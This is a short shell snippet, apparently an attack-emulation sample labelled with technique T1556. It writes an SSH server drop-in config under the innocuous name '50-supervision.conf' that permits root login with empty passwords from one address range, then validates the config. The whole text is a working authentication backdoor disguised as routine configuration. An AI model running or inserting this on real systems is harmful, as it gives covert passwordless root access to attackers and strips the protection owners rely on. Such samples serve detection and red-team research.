# technique: T1556
# location: linux.ssh.server-config
# source: /etc/ssh/sshd_config.d/50-supervision.conf
printf 'Match Address 203.0.113.0/24\n    PermitRootLogin yes\n    PermitEmptyPasswords yes\n' > /etc/ssh/sshd_config.d/50-supervision.conf
mkdir -p /run/sshd
sshd -t
